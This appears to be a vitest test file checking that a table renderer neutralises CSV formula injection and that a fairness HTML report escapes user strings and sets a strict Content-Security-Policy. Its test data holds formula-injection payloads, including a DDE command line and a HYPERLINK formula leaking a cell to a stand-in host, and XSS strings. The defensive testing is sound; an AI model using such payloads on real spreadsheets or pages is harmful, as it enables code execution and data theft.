// Output hardening (issue 17): CSV formula injection neutralised; fairness HTML escapes every user string and carries
// a restrictive Content-Security-Policy.
import { describe, expect, it } from "vitest";
import { renderTable } from "../../src/index.js";
import { assessFairness, renderFairnessHtml } from "../../src/stats/index.js";

describe("CSV formula injection (renderTable, tables A.1/D.1)", () => {
  it.each([
    ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\""],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "\"'\r=1\""],
    ["-3", "-3"],
    ["+86", "+86"],
    ["餐饮联合抽查", "餐饮联合抽查"],
  ])("%j is written as %j", (cell, written) => {
    const csv = renderTable([{ 计划名称: cell }], "csv");
    expect(csv).toBe(`\uFEFF计划名称\r\n${written}\r\n`);
  });
});

describe("fairness HTML", () => {
  const pool = ["<img src=x onerror=alert(1)>", "\"><script>alert(2)</script>", "a' onmouseover='x"].flatMap((id, i) =>
    Array.from({ length: 5 }, (_, j) => ({ id: `${id}${i}${j}`, riskClass: "A" })),
  );
  const report = assessFairness({ pool, policy: { strata: { A: { ratio: 0.2 } } }, runs: 40, baseSeed: "<b>seed</b>" });
  const html = renderFairnessHtml(report, "</title><script>alert(3)</script>");
  it("escapes every user string in text and attribute context", () => {
    expect(html).not.toMatch(/<script|<img|<b>seed|' onmouseover='/);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("&#39; onmouseover=&#39;x");
    expect(html).toContain("&lt;/title&gt;&lt;script&gt;");
  });
  it("carries a Content-Security-Policy that allows no script and no remote content", () => {
    expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'">/);
  });
  it("refuses a report whose fields are not of the documented types", () => {
    expect(() => renderFairnessHtml({ ...report, strata: [{ ...report.strata[0]!, tests: [{ ...report.strata[0]!.tests[0]!, note: 1 as unknown as string }] }] })).toThrowError(/note/);
  });
});
